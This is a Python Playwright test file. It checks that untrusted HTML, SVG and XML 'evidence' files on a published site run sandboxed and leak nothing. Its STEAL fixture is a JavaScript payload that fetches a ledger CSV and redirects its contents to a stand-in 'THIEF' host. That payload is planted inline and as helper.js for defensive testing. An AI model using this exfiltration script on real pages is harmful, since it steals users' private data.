"""Evidence that others wrote, HTML, SVG and XML: it shows, and neither runs nor asks for anything."""

from __future__ import annotations

import threading

import pytest
from playwright.sync_api import expect

from pages_host import PagesHost
from sealed_site import opening
from sealed_site.sealed_folder import SealedFolder

EVIDENCE = "clients/evidence/"
STEAL = """
fetch("/repo-name/clients/evidence/ledger-rows.csv").then((answer) => answer.text()).then((text) => {
  location = "THIEF?" + encodeURIComponent(text);
});
"""
HTML = """<!doctype html><html><head><title>Offer</title><style>p { color: rgb(1, 2, 3); }</style></head><body>
<p>Our offer <a href="THIEF?clicked">Accept</a> <a href="../quillfeather/">Home</a></p>
<script>STEAL</script><script src="helper.js"></script></body></html>"""
XHTML = "http://www.w3.org/1999/xhtml"
FILES = {
    "offer.html": HTML,
    "offer.svg": '<svg xmlns="http://www.w3.org/2000/svg"><text y="20">Our offer</text><script>STEAL</script>'
    '<script href="helper.js"/></svg>',
    "offer.xml": f'<html xmlns="{XHTML}"><body><p>Our offer</p><script src="helper.js"></script></body></html>',
}


@pytest.fixture
def thief(tmp_path):
    """The host of who wrote the evidence."""
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "404.html").write_text("thank you")
    return PagesHost(tmp_path / "theirs", "/")


@pytest.fixture
def robbed(published, thief):
    """The sample site with the thief's evidence in it, and a page of the owner's own that has a script."""
    script = STEAL.replace("THIEF", thief.url)
    docs = published.source / "docs"
    for name, text in FILES.items():
        (docs / EVIDENCE / name).write_text(text.replace("STEAL", script).replace("THIEF", thief.url), encoding="utf-8")
    (docs / EVIDENCE / "helper.js").write_text(script, encoding="utf-8")
    (docs / "own.md").write_text("# Own\n\n<script>document.body.dataset.ran = 'yes'</script>\n", encoding="utf-8")
    assert published.publish().returncode == 0
    return published


@pytest.mark.parametrize("keep", [False, True])
def test_evidence_that_runs_scripts_shows_in_a_sandbox_and_gives_nothing_away(reading, robbed, thief, keep):
    page = reading.opened(robbed.host.url, robbed.key_file(), keep=keep)
    for name in FILES:
        page.goto(f"{robbed.host.url}{EVIDENCE}{name}")
        expect(page.frame_locator(f"iframe[title='{name}']").get_by_text("Our offer")).to_be_visible()
        page.wait_for_timeout(400)
        assert page.url.startswith(robbed.host.url)
        assert page.frames[-1].evaluate("origin") == "null"
    assert thief.asked == []
    assert [path for path in robbed.host.asked if "helper" in path] == []
    page.goto(f"{robbed.host.url}own/")
    expect(page.locator("body")).to_have_attribute("data-ran", "yes")
    reading.complaints.clear()


@pytest.mark.parametrize("keep", [False, True])
def test_a_link_in_evidence_leads_neither_into_the_site_nor_to_another(reading, robbed, thief, keep):
    page = reading.opened(robbed.host.url, robbed.key_file(), keep=keep)
    page.goto(f"{robbed.host.url}{EVIDENCE}offer.html")
    shown = page.frame_locator("iframe")
    shown.get_by_text("Home").click(no_wait_after=True)
    page.wait_for_timeout(800)
    expect(shown.get_by_text("Our offer")).to_be_visible()
    shown.get_by_text("Accept").click(no_wait_after=True)
    page.wait_for_timeout(800)
    assert page.url.startswith(robbed.host.url)
    assert thief.asked == []
    reading.complaints.clear()


def test_the_browser_and_this_machine_sandbox_evidence_alike(reading, robbed):
    page = reading.opened(robbed.host.url, robbed.key_file())
    ask = "(url) => fetch(url).then((answer) => answer.headers.get('content-security-policy'))"
    for name in FILES:
        assert page.evaluate(ask, f"{EVIDENCE}{name}") == opening.SANDBOX
    reading.complaints.clear()


def test_a_site_opened_on_this_machine_gives_nothing_away_either(reading, robbed, thief):
    server = opening.serve(opening.open_site(SealedFolder(robbed.folder), robbed.owner), 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/repo-name/"
    page = reading.context.new_page()
    for name in FILES:
        page.goto(f"{url}{EVIDENCE}{name}")
        expect(page.get_by_text("Our offer")).to_be_visible()
        page.wait_for_timeout(400)
        assert page.url.startswith(url)
        assert page.evaluate("origin") == "null"
    page.goto(f"{url}own/")
    expect(page.locator("body")).to_have_attribute("data-ran", "yes")
    page.wait_for_load_state("networkidle")
    page.close()
    server.shutdown()
    server.server_close()
    assert thief.asked == []
    reading.complaints.clear()


def test_a_download_of_evidence_is_the_file_as_it_came(reading, robbed):
    page = reading.opened(robbed.host.url, robbed.key_file())
    got = page.evaluate(f"fetch('{EVIDENCE}offer.html').then((answer) => answer.text())")
    assert got == (robbed.source / "docs" / EVIDENCE / "offer.html").read_text(encoding="utf-8")


def test_only_what_was_copied_and_may_run_scripts_is_sandboxed(robbed):
    sandboxed = {path for path, entry in robbed.manifest().files.items() if entry.sandboxed}
    assert sandboxed == {f"{EVIDENCE}{name}" for name in FILES}
    assert robbed.manifest().files[f"{EVIDENCE}offer.html"].scripts == ()
    assert robbed.manifest().files["own/index.html"].scripts != ()
